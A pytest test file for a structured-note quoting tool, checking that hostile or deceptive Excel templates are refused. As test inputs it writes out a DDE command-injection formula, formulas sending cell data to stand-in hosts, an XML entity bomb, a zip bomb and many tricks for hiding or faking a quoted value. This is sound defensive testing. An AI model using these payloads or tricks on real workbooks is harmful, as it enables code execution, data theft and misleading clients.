"""Templates from outside (--template) are refused with exit 2 and a message, never a
traceback, when they reach other files, are bombs, or are not the product's."""
import shutil
import zipfile

import openpyxl
import pytest
from openpyxl.chart.data_source import NumDataSource, NumFmt, NumRef, StrRef
from openpyxl.chart.series import SeriesLabel
from openpyxl.drawing.spreadsheet_drawing import AnchorMarker, TwoCellAnchor
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import Font, GradientFill, PatternFill
from openpyxl.styles.colors import Color
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.hyperlink import Hyperlink

from helpers import NOTE_TEMPLATE, ROOT, repacked, run_with, summary_rows


def test_a_formula_reading_another_workbook_is_refused(tmp_path):
    """Was: a formula reference pulled another local workbook's data into every client quote."""
    secret = openpyxl.Workbook()
    secret.active["A1"] = "desk secret"
    secret.save(tmp_path / "secret.xlsx")
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    wb["Quote"]["A60"] = f"='{tmp_path}/[secret.xlsx]Sheet'!A1"
    wb.save(tmp_path / "linked.xlsx")
    result = run_with(tmp_path, tmp_path / "linked.xlsx")
    assert result.returncode == 2 and "Quote!A60 refers outside the workbook" in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("formula", ['=INDIRECT("[secret.xlsx]Sheet!A1")', "=[1]Sheet1!A1",
                                     "=WEBSERVICE(\"http://example.invalid\")", "=cmd|' /C calc'!A0",
                                     '=_xlfn.STOCKHISTORY("SPX",TODAY())', '=_xlfn.IMAGE("http://x.invalid/"&B4)',
                                     '=CUBEVALUE("conn","[Measures].[x]")'])
def test_formulas_that_reach_outside_are_refused(tmp_path, formula):
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    wb["Term Sheet"]["H2"] = formula
    wb.save(tmp_path / "reach.xlsx")
    result = run_with(tmp_path, tmp_path / "reach.xlsx")
    assert result.returncode == 2 and "Term Sheet!H2 refers outside the workbook" in result.stderr


def test_external_link_parts_are_refused(tmp_path):
    """Was: external-link parts copied into client quotes."""
    def change(name, data):
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.'
                                b'org/officeDocument/2006/relationships/externalLink" Target="externalLinks/'
                                b'externalLink1.xml"/></Relationships>')
        return data
    change.extra = {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
                                                          b'spreadsheetml/2006/main"/>'}
    result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "links.xlsx", change))
    assert result.returncode == 2 and "links to other workbooks (xl/externalLinks/externalLink1.xml)" in result.stderr


def test_an_external_relationship_other_than_a_hyperlink_is_refused(tmp_path):
    def change(name, data):
        if name == "xl/worksheets/_rels/sheet5.xml.rels" or name.endswith("sheet1.xml.rels"):
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.'
                                b'org/officeDocument/2006/relationships/oleObject" Target="file:///C:/x.bin" '
                                b'TargetMode="External"/></Relationships>')
        return data
    result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "ole.xlsx", change))
    assert result.returncode == 2 and "refers to an outside oleObject (file:///C:/x.bin)" in result.stderr


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    """Was: a 3 MB zip bomb accepted, peaking at 6.4 GB."""
    def change(name, data):
        return data
    change.extra = {"xl/media/padding.bin": b"\0" * 60_000_000}
    bomb = repacked(NOTE_TEMPLATE, tmp_path / "bomb.xlsx", change)
    assert bomb.stat().st_size < 1_000_000
    result = run_with(tmp_path, bomb)
    assert result.returncode == 2 and "unpacks to" in result.stderr and "xl/media/padding.bin" in result.stderr


def test_a_chart_part_entity_bomb_is_refused(tmp_path):
    """Was: a traceback with exit 1."""
    def change(name, data):
        if name.startswith("xl/charts/chart"):
            entities = (b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>')
            return entities + data.split(b"?>", 1)[-1]
        return data
    result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "entities.xlsx", change))
    assert result.returncode == 2 and "cannot be read safely" in result.stderr
    assert "DTDForbidden" in result.stderr or "EntitiesForbidden" in result.stderr


def test_not_a_workbook_is_refused(tmp_path):
    (tmp_path / "fake.xlsx").write_text("not a zip")
    result = run_with(tmp_path, tmp_path / "fake.xlsx")
    assert result.returncode == 2 and "cannot be read safely: BadZipFile" in result.stderr


def test_a_template_without_our_names_is_refused(tmp_path):
    """Was: a traceback with exit 1."""
    wb = openpyxl.Workbook()
    wb.active.title = "Quote"
    wb.save(tmp_path / "plain.xlsx")
    result = run_with(tmp_path, tmp_path / "plain.xlsx")
    assert result.returncode == 2 and "is not a note template (its Product name is None)" in result.stderr


def test_the_warrant_template_given_as_the_note_s_is_refused(tmp_path):
    """Was: a traceback with exit 1."""
    result = run_with(tmp_path, ROOT / "workbooks" / "bearish_put_warrant.xlsx")
    assert result.returncode == 2 and 'is not a note template (its Product name is "warrant")' in result.stderr


@pytest.mark.parametrize("destination", ["'Term Sheet'!$B$5,'Term Sheet'!$B$6", "'Term Sheet'!$B$5:$C$6"])
def test_a_name_a_deal_fills_must_be_one_cell_or_column(tmp_path, destination):
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    wb.defined_names["Initial"] = openpyxl.workbook.defined_name.DefinedName("Initial", attr_text=destination)
    wb.save(tmp_path / "union.xlsx")
    result = run_with(tmp_path, tmp_path / "union.xlsx")
    assert result.returncode == 2 and "must name one cell or one column of cells Initial" in result.stderr


def test_a_copy_of_our_template_is_accepted(tmp_path):
    shutil.copy(NOTE_TEMPLATE, tmp_path / "copy.xlsx")
    result = run_with(tmp_path, tmp_path / "copy.xlsx")
    assert result.returncode == 0, result.stderr


def quote_label(wb, label):
    """The Quote sheet's cell holding `label` in its first column."""
    return next(c for row in wb["Quote"].iter_rows(max_col=1) for c in row if c.value == label)


def with_change(tmp_path, change, name="changed.xlsx"):
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    change(wb)
    wb.save(tmp_path / name)
    return tmp_path / name


def relabel_and_print_a_constant(wb):
    """The validator's template: the real estimated value relabelled, a false one printed."""
    real = quote_label(wb, "Estimated value")
    real.value = "Model value (internal)"
    wb["Quote"][f"A{real.row + 3}"] = "Estimated value 1,050"


def constant_number(wb):
    real = quote_label(wb, "Estimated value")
    real.value = "Model value (internal)"
    wb["Quote"][f"A{real.row + 3}"] = "Estimated value"
    wb["Quote"][f"B{real.row + 3}"] = 1050.0


def constant_in_a_shown_name(wb):
    sheet, ref = next(iter(wb.defined_names["Issuer"].destinations))
    wb[sheet][ref.replace("$", "")] = "Citibank, estimated value 1,050"


def header_text(wb):
    wb["Quote"].oddFooter.center.text = "Estimated value $1,050.00"


def format_literal(wb):
    cell = next(c for row in wb["Quote"].iter_rows() for c in row if c.value == "=Principal")
    cell.number_format = '"$"#,##0.00" (value $1,050)"'


def name_meaning_something_else(wb):
    """UpperStrikeValue-like swap on a note: MinimumPayment named at the maximum payment's formula."""
    maximum = next(iter(wb.defined_names["MaximumPayment"].destinations))
    wb.defined_names["MinimumPayment"].attr_text = f"'{maximum[0]}'!{maximum[1]}"


@pytest.mark.parametrize("change, message", [
    (relabel_and_print_a_constant, "prints 'Estimated value 1,050', with the number 1,050, which the note layout "
                                   "neither computes nor takes from a deal"),
    (constant_number, "prints the constant 1050, a number the note layout neither computes nor takes from a deal"),
    (constant_in_a_shown_name, "(named Issuer, shown on the Quote sheet) prints 'Citibank, estimated value 1,050'"),
    (header_text, "the Quote sheet's page footer prints 'Estimated value $1,050.00'"),
    (format_literal, "the number format of Quote!"),
    (name_meaning_something_else, "its name MinimumPayment"),
])
def test_a_template_printing_a_number_the_layout_does_not_compute_is_refused(tmp_path, change, message):
    """Was: an outside template relabelled the real "Estimated value" and printed a constant
    "Estimated value 1,050": the client saw 1,050 while the summary said 973.73, exit 0."""
    result = run_with(tmp_path, with_change(tmp_path, change))
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert not (tmp_path / "out").exists()


def a_chart_title_with_a_number(path):
    def change(name, data):
        if name.startswith("xl/charts/chart"):
            return data.replace(b"Payout Diagram", b"Payout Diagram: value 1,050")
        return data
    return change


def test_a_number_in_the_quote_s_chart_is_refused(tmp_path):
    template = repacked(NOTE_TEMPLATE, tmp_path / "chart.xlsx", a_chart_title_with_a_number(tmp_path))
    result = run_with(tmp_path, template)
    assert result.returncode == 2 and "prints 'Payout Diagram: value 1,050', with the number 1,050" in result.stderr


def test_a_restyled_and_reworded_template_is_accepted(tmp_path):
    """Restyling and rewording stay allowed: labels without new numbers, fonts, other scenario changes."""
    def restyle(wb):
        ws = wb["Quote"]
        quote_label(wb, "Estimated value").value = "Indicative value"
        quote_label(wb, "Prepared for").font = openpyxl.styles.Font(name="Arial", size=12, bold=True)
        sheet, ref = next(iter(wb.defined_names["QuoteChanges"].destinations))
        ws[ref.replace("$", "").split(":")[0]] = -0.4  # a scenario of the layout, with another change
        ws.oddHeader.center.text = "Indicative terms for the S&&P 500 linked notes"  # && prints &
        ws["A55"] = "For one security; no one may rely on it but the client. Canteen Holdings desk."
        ws["A2"].fill = PatternFill("solid", fgColor=Color(theme=4, tint=0.6))  # Excel's theme palette (a crash)
        ws.page_setup.paperSize, ws.row_dimensions[3].height = 8, 40  # A3, a taller row
        ws.oddFooter.left.text = ("As market conditions unfold; Two Sigma Securities LLC; not a zero-coupon note; "
                                  "half-yearly; the tenth business day; third-party payment agent; double-check; "
                                  "amounts in US$ or EUR; Acme Sp. z o.o.; \u0394 hedged")
        ws.oddHeader.left.text = "&K04+000Indicative terms"  # a theme colour, as Excel writes it
        ws.sheet_format.defaultRowHeight = 12.75  # Arial 10's rows: the chart ends 0.12 points into row 51
        for cell in key_quote_cells(wb):  # Excel's automatic colours on a light dotted pattern
            cell.fill = PatternFill("gray0625", fgColor=Color(indexed=64), bgColor=Color(indexed=65))
    result = run_with(tmp_path, with_change(tmp_path, restyle))
    assert result.returncode == 0, result.stderr
    ws = openpyxl.load_workbook(tmp_path / "out" / "N-101.xlsx")["Quote"]
    assert "Indicative value" in [c.value for row in ws.iter_rows(max_col=1) for c in row]


# The second attacking review's templates: each printed a number the layout does not compute,
# hid the real one, or carried desk data into the client file, with exit 0.

def issuer_number(wb, q):  # =Issuer shows a numeric constant, labelled as the value
    sheet, ref = next(iter(wb.defined_names["Issuer"].destinations))
    wb[sheet][ref.replace("$", "")] = 1050
    quote_label(wb, "Estimated value").value = "Model figure"
    label = quote_label(wb, "Issuer")
    label.value = "Estimated value"
    q.cell(label.row, 2).number_format = '"$"#,##0.00'


def target_on_quote(wb, q):  # a layout constant (TargetValue) moved onto the printed page
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"], q["B55"] = "Estimated value", 1050
    q["B55"].number_format = '"$"#,##0.00'
    wb.defined_names["TargetValue"] = DefinedName("TargetValue", attr_text="'Quote'!$B$55")


def fullwidth_text(wb, q):
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"] = "Estimated value: $１,０５０.００"


def token_of_another_page(wb, q):  # "1,000" is in the Term Sheet's text, not on the quote
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"] = "Estimated value: $1,000"


def format_escapes(wb, q):  # digits escaped one by one in a format's text section
    quote_label(wb, "Estimated value").value = "Model figure"
    label = quote_label(wb, "Issuer")
    label.value = "Estimated value"
    q.cell(label.row, 2).number_format = 'General;General;General;"$"\\1\\,\\1\\4\\5\\.\\2\\3'


def scaled_format(wb, q):  # the initial value shown in thousands
    cell = next(c for row in q.iter_rows() for c in row if c.value == "=Initial")
    cell.number_format = '"$"0.00,'


def axis_format(wb, q):
    q._charts[0].y_axis.numFmt = NumFmt(formatCode='"Est. value $1,050 | "0%', sourceLinked=False)


def chart_desk_series(wb, q):  # a series named and plotted from desk cells beside the page
    q["N1"] = "Desk: est. value $1,050 (do not show)"
    for row in range(2, 253):
        q.cell(row, 13).value = 1.05
    series = q._charts[0].series[1]
    series.tx = SeriesLabel(strRef=StrRef("'Quote'!$N$1"))
    series.yVal = NumDataSource(numRef=NumRef(f="'Quote'!$M$2:$M$252"))


def hide_key_numbers(wb, q):  # near-white on near-white, 1 point
    for cell in key_quote_cells(wb):
        cell.font, cell.fill = Font(color="FFFFFE", sz=1), PatternFill("solid", fgColor="FFFFFE")


def chart_covers_key(wb, q):
    key = key_quote_cells(wb)[0]
    q._charts[0].anchor._from.row, q._charts[0].anchor._from.col = key.row - 2, 0


def hidden_quote(wb, q):
    q.sheet_state = "hidden"
    wb.active = 0


def with_a_picture(source, target):
    """A copy of the template with a picture (a logo, or "Estimated value $1,050" as pixels) on its Quote sheet."""
    def change(name, data):
        if name == "xl/drawings/drawing2.xml":  # the Quote sheet's drawing, beside its chart
            return data.replace(b"</wsDr>", PICTURE + b"</wsDr>")
        if name == "xl/drawings/_rels/drawing2.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdLogo" Type="http://schemas.openxmlformats.'
                                b'org/officeDocument/2006/relationships/image" Target="../media/logo.png"/>'
                                b"</Relationships>")
        if name == "[Content_Types].xml" and b'Extension="png"' not in data:
            return data.replace(b"<Override", b'<Default Extension="png" ContentType="image/png"/><Override', 1)
        return data
    change.extra = {"xl/media/logo.png": (ROOT / "docs" / "client_quote_note.png").read_bytes()}
    return repacked(source, target, change)


PICTURE = (b'<oneCellAnchor><from><col>3</col><colOff>0</colOff><row>1</row><rowOff>0</rowOff></from>'
           b'<ext cx="900000" cy="300000"/><pic><nvPicPr><cNvPr id="9" name="Logo"/><cNvPicPr/></nvPicPr><blipFill>'
           b'<a:blip r:embed="rIdLogo"/><a:stretch><a:fillRect/></a:stretch></blipFill><spPr><a:prstGeom prst="rect"/>'
           b'</spPr></pic><clientData/></oneCellAnchor>')


def test_a_picture_on_the_quote_sheet_is_refused_with_or_without_an_image_library(tmp_path):
    """Was: with Pillow installed a picture went to the client as it was, without it silently dropped."""
    template = with_a_picture(NOTE_TEMPLATE, tmp_path / "logo.xlsx")
    result = run_with(tmp_path, template)
    assert result.returncode == 2 and "its Quote sheet holds a picture (xl/drawings/drawing2.xml)" in result.stderr


def key_quote_cells(wb):
    return [c for row in wb["Quote"].iter_rows() for c in row if c.value in ("=EstimatedValue", "=Breakeven")]


# The third review's: a format printing the 500 of "S&P 500", key numbers faded by a theme tint,
# a pattern or a print area so large that one page shrinks them, numbers in letters.

def format_prints_500(wb, q):  # every scenario payment shows "$500"
    for row in range(18, 29):  # the scenarios' payments
        q[f"C{row}"].number_format = '"$500"'


def zero_section_prints_500(wb, q):
    for row in range(18, 29):
        q[f"C{row}"].number_format = '"$"#,##0.00;;"$500"'


def tinted_key_numbers(wb, q):  # black lightened 92% by a theme tint: near-white
    for cell in key_quote_cells(wb):
        cell.font = Font(color=Color(theme=1, tint=0.92), sz=12, b=True)


def patterned_key_numbers(wb, q):
    for cell in key_quote_cells(wb):
        cell.fill = PatternFill("darkGray")


def huge_print_area(wb, q):  # one page of A1:CZ600 prints the quote at a sixth of its size
    q.print_area = "A1:CZ600"


def lookalike_digits(wb, q):
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"] = "Estimated value $l,OOO.OO"


def number_words(wb, q):
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"] = "Estimated value: one thousand fifty dollars"


# The fourth review's: rows, paper and print titles that shrink the page, a theme whose text
# colour is white, superscript, and numbers in other letters or words.

def tall_default_rows(wb, q):
    q.sheet_format.defaultRowHeight, q.sheet_format.customHeight = 40, True


def a5_paper(wb, q):
    q.page_setup.paperSize = 11


def unknown_paper(wb, q):
    q.page_setup.paperSize = 99


def tall_print_titles(wb, q):
    q.print_title_rows = "1:2"
    for row in (1, 2):
        q.row_dimensions[row].height = 300
    q.print_area = "A3:E56"


def white_theme_text(wb, q):
    wb.loaded_theme = wb.loaded_theme.replace(b'<a:sysClr val="windowText" lastClr="000000"/>',
                                              b'<a:srgbClr val="FFFFFF"/>')
    for cell in key_quote_cells(wb):
        cell.font = Font(color=Color(theme=1), sz=12, b=True)


def superscript_key_numbers(wb, q):
    for cell in key_quote_cells(wb):
        cell.font = Font(sz=12, b=True, vertAlign="superscript")


def gradient_behind_key_numbers(wb, q):
    for cell in key_quote_cells(wb):
        cell.fill = GradientFill(stop=("FFFFFF", "000000"))


def cyrillic_lookalikes(wb, q):
    quote_label(wb, "Estimated value").value = "Model figure"
    q["A55"] = "Estimated value \u0406l,\u041e\u041e\u041e.\u041e\u041e USD"


def lookalikes_without_separators(wb, q):
    q["A55"] = "plus IOO bps at issue"


def words_of_numbers(wb, q):
    q["A55"] = "half your principal back, a tenfold upside, our fiftieth issue"


# The fifth review's: page numbers, sections of another kind, letters of other scripts, parts of
# money in words, themes in other colour forms, squeezed default rows, paper of its own size,
# fonts of symbols.

def page_number_footer(wb, q):
    q.page_setup.firstPageNumber, q.page_setup.useFirstPageNumber = 1050, True
    q.oddFooter.center.text = "Estimated value $&P per security"


def negative_section_without_percent(wb, q):  # a 40% loss shown as -0.40%
    for row in range(18, 29):
        q[f"D{row}"].number_format = '0.00%;-0.00"%"'


def scaled_on_a_condition(wb, q):
    cell = next(c for row in q.iter_rows() for c in row if c.value == "=Initial")
    cell.number_format = '[<1]0.00;[>=1]#,##0.00,'


def double_percent(wb, q):
    cell = next(c for row in q.iter_rows() for c in row if c.value == "=Buffer")
    cell.number_format = "0.00%%"


def armenian_lookalikes(wb, q):
    q["A55"] = "Estimated value $\u01c0,\u0555\u0555\u0555.\u0555\u0555"


def part_of_principal_in_words(wb, q):
    q["A55"] = "a fifth of principal back"


def theme_text_in_another_form(wb, q):
    wb.loaded_theme = wb.loaded_theme.replace(b'<a:sysClr val="windowText" lastClr="000000"/>',
                                              b'<a:scrgbClr r="100000" g="100000" b="100000"/>')


def theme_text_lightened(wb, q):
    wb.loaded_theme = wb.loaded_theme.replace(
        b'<a:sysClr val="windowText" lastClr="000000"/>',
        b'<a:srgbClr val="000000"><a:lumMod val="0"/><a:lumOff val="100000"/></a:srgbClr>')
    for cell in key_quote_cells(wb):
        cell.font = Font(color=Color(theme=1), sz=12, b=True)


def squeezed_default_rows(wb, q):
    q.sheet_format.defaultRowHeight, q.sheet_format.customHeight = 2, True


def short_default_rows_under_the_chart(wb, q):
    q.sheet_format.defaultRowHeight, q.sheet_format.customHeight = 9, True


def paper_of_its_own_size(wb, q):
    q.page_setup.paperWidth, q.page_setup.paperHeight = "60mm", "90mm"


def symbol_font(wb, q):
    for cell in key_quote_cells(wb):
        cell.font = Font(name="Wingdings", sz=12, b=True)


def numbers_between_font_codes(wb, q):  # openpyxl reads all between the first &" and the last " as a font
    q.oddHeader.center.text = '&"Arial,Bold"Guaranteed payment $1,999.99&"Arial,Regular" per security'


def page_number_between_font_codes(wb, q):
    q.oddFooter.right.text = '&"Arial,Regular"Page &P of &N, printed &D&"Arial,Regular" '


def theme_change_in_percent(wb, q):
    wb.loaded_theme = wb.loaded_theme.replace(b'<a:srgbClr val="EEECE1"/>',
                                              b'<a:srgbClr val="EEECE1"><a:lumMod val="50%"/></a:srgbClr>')


def theme_change_too_large(wb, q):  # 400 digits overflowed a float
    wb.loaded_theme = wb.loaded_theme.replace(b'<a:srgbClr val="1F497D"/>',
                                              b'<a:srgbClr val="1F497D"><a:lumMod val="' + b"9" * 400 + b'"/></a:srgbClr>')


def chart_from_below_a_row_onto_the_breakeven(wb, q):  # starts 14 points into row 50, reaches 10 into row 51
    breakeven = next(c for row in q.iter_rows() for c in row if c.value == "=Breakeven")
    anchor = q._charts[0].anchor
    anchor._from.row, anchor._from.rowOff, anchor.ext.height = breakeven.row - 2, 14 * 12700, 11 * 12700


@pytest.mark.parametrize("attack, message", [
    (theme_change_too_large, "its theme gives the colour dk2 in a form the check cannot read"),
    (chart_from_below_a_row_onto_the_breakeven, "chart 1 covers the estimated value or breakeven"),
    (numbers_between_font_codes, "prints 'Guaranteed payment $1,999.99 per security', with the number 1,999.99"),
    (page_number_between_font_codes, "printing a page number, date, time, picture or folder"),
    (theme_change_in_percent, "its theme gives the colour lt2 in a form the check cannot read"),
    (page_number_footer, "printing a page number, date, time, picture or folder (&P, &N, &D, &T, &G, &Z; an "),
    (negative_section_without_percent, "as a mixed where the note layout shows percents"),
    (scaled_on_a_condition, "as a mixed where the note layout shows numbers"),
    (double_percent, "as a scaled where the note layout shows percents"),
    (armenian_lookalikes, "with the number $|"),
    (part_of_principal_in_words, "with the number fifth of principal"),
    (theme_text_in_another_form, "its theme gives the colour dk1 in a form the check cannot read"),
    (theme_text_lightened, "does not print: its text has a contrast of 1.0 to 1 with its background"),
    (squeezed_default_rows, "does not print: its row is hidden or 2 points high"),
    (short_default_rows_under_the_chart, "chart 1 covers the estimated value or breakeven"),
    (paper_of_its_own_size, "prints on a paper of its own size (60mm x 90mm)"),
    (symbol_font, "is set in Wingdings, a font of symbols"),
    (tall_default_rows, "printed at 29% to fit its print area on one page"),
    (a5_paper, "printed at 51% to fit its print area on one page"),
    (unknown_paper, "prints on paper size 99, which the check cannot measure"),
    (tall_print_titles, "printed at 44% to fit its print area on one page"),
    (white_theme_text, "its Quote sheet must show =EstimatedValue in a printed cell"),
    (superscript_key_numbers, "7.2 points printed at 73% to fit its print area on one page"),
    (gradient_behind_key_numbers, "its Quote sheet must show =EstimatedValue in a printed cell"),
    (cyrillic_lookalikes, "with the number \u0406 (a letter of another script than Latin)"),
    (lookalikes_without_separators, "with the number IOO"),
    (words_of_numbers, "with the number half"),
    (format_prints_500, "printing '$500' whatever the number: a format may not print a number (500)"),
    (zero_section_prints_500, "printing '$500' whatever the number"),
    (tinted_key_numbers, "its Quote sheet must show =EstimatedValue in a printed cell"),
    (patterned_key_numbers, "its Quote sheet must show =EstimatedValue in a printed cell"),
    (huge_print_area, "12 points printed at 17% to fit its print area on one page"),
    (lookalike_digits, "prints 'Estimated value $l,OOO.OO', with the number"),
    (number_words, "prints 'Estimated value: one thousand fifty dollars', with the number one thousand fifty"),
    (issuer_number, "(named Issuer, shown on the Quote sheet) holds 1050 where the note layout holds text"),
    (target_on_quote, "Quote!B55 prints the constant 1050"),
    (fullwidth_text, "prints 'Estimated value: $１,０５０.００', with the number 1,050.00"),
    (token_of_another_page, "prints 'Estimated value: $1,000', with the number 1,000"),
    (format_escapes, "printing '$1,145.23' whatever the number: a format may not print a number (1,145.23)"),
    (scaled_format, "as a scaled where the note layout shows numbers"),
    (axis_format, "the number format of the Quote sheet's chart"),
    (chart_desk_series, "its Quote sheet's chart 1 names a series from the cell 'Quote'!$N$1"),
    (hide_key_numbers, "its Quote sheet must show =EstimatedValue in a printed cell"),
    (chart_covers_key, "chart 1 covers the estimated value or breakeven"),
    (hidden_quote, "its Quote sheet is hidden"),
])
def test_second_review_templates_are_refused_naming_what_they_print(tmp_path, attack, message):
    result = run_with(tmp_path, with_change(tmp_path, lambda wb: attack(wb, wb["Quote"])))
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert not (tmp_path / "out").exists()


def test_desk_data_hidden_in_a_template_never_reaches_the_client_file(tmp_path):
    """Was: found in the client .xlsx: a custom property, cells hidden by ;;; or by their colours
    or size, a format beside the page, a hyperlink and its tooltip, headers and footers that never
    print, a sheet-scoped name."""
    def desk(wb):
        q = wb["Quote"]
        q["E40"], q["E40"].number_format = "DESK NOTE one", ";;;"
        q["E41"], q["E41"].font, q["E41"].fill = "DESK NOTE two", Font(color="FFFF00"), PatternFill("solid",
                                                                                                  fgColor="FFFF00")
        q["E42"], q["E42"].font = "DESK NOTE three", Font(sz=1, color="FEFEFE")
        q["Z99"], q["Z99"].number_format = "x", '"DESK FORMAT "0.00'
        wb.custom_doc_props.append(StringProperty(name="DeskMargin", value="DESK mark-up"))
        q["A1"].hyperlink = Hyperlink(ref="A1", target="https://desk.example/notes?DESK=1", tooltip="DESK tooltip")
        q.evenHeader.center.text, q.firstFooter.left.text = "DESK even header", "DESK first footer"
        q.defined_names["DeskNote"] = DefinedName("DeskNote", attr_text='"DESK: price-insensitive"')
        q.page_setup.scale, q.sheet_properties.pageSetUpPr.fitToPage = 400, False  # 22 pages if not refitted
    result = run_with(tmp_path, with_change(tmp_path, desk))
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(tmp_path / "out" / "N-101.xlsx") as package:
        assert [name for name in package.namelist() if b"DESK" in package.read(name)] == []
    ws = openpyxl.load_workbook(tmp_path / "out" / "N-101.xlsx")["Quote"]
    assert ws.sheet_properties.pageSetUpPr.fitToPage and (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 1)
    assert ws.page_setup.scale is None


@pytest.mark.parametrize("squeeze", ["indent", "default width"])
def test_key_numbers_squeezed_by_an_indent_or_the_default_width_fail_their_deal(tmp_path, squeeze):
    """The fifth review: the room for a number ignored a cell's indent and the sheet's default
    column width, so the PDF printed ### (or, in General, a rounded 978) while the summary
    said written."""
    def change(wb):
        q = wb["Quote"]
        for cell in key_quote_cells(wb):
            if squeeze == "indent":
                cell.alignment = openpyxl.styles.Alignment(horizontal="right", indent=15)
            else:
                q[f"F{cell.row}"] = cell.value
                cell.value = None
        if squeeze == "default width":
            q.print_area, q.sheet_format.defaultColWidth = "A1:F56", 4
    result = run_with(tmp_path, with_change(tmp_path, change))
    shows = "(the page would show ###)" if squeeze == "indent" else "(the page would round it to fit)"
    assert result.returncode == 1 and shows in result.stderr, result.stderr


def test_a_template_saved_by_libreoffice_is_quoted_as_the_original(tmp_path):
    """The sixth review: LibreOffice writes the names of functions it does not know in lower case
    and a chart series' name as quoted text; both refused a round-tripped template."""
    def as_libreoffice_saves_it(wb):
        term_sheet = wb["Term Sheet"]
        term_sheet["B23"] = term_sheet["B23"].value.replace("NOTE_BREAKEVEN(", "note_breakeven(")
        wb["Quote"]._charts[0].series[0].tx = SeriesLabel(strRef=StrRef('"The Securities"'))
    (tmp_path / "original").mkdir()
    (tmp_path / "saved").mkdir()
    original = run_with(tmp_path / "original", NOTE_TEMPLATE)
    saved = run_with(tmp_path / "saved", with_change(tmp_path, as_libreoffice_saves_it))
    assert original.returncode == 0 and saved.returncode == 0, saved.stderr
    values = [{r["deal_id"]: (r["value"], r["breakeven"]) for r in summary_rows(tmp_path / run / "out")}
              for run in ("original", "saved")]
    assert values[0] == values[1] and values[0]


def test_a_chart_anchored_to_the_sheet_s_far_corner_is_checked_without_listing_its_cells(tmp_path):
    """The seventh review: a two-cell anchor to the last row and column made the check list 17
    billion cells (a MemoryError)."""
    def far_corner(wb):
        q = wb["Quote"]
        q._charts[0].anchor = TwoCellAnchor(_from=AnchorMarker(col=5, row=30),
                                            to=AnchorMarker(col=16383, row=1048575))
    result = run_with(tmp_path, with_change(tmp_path, far_corner))
    assert result.returncode == 0, result.stderr  # clear of the key numbers in columns A and B
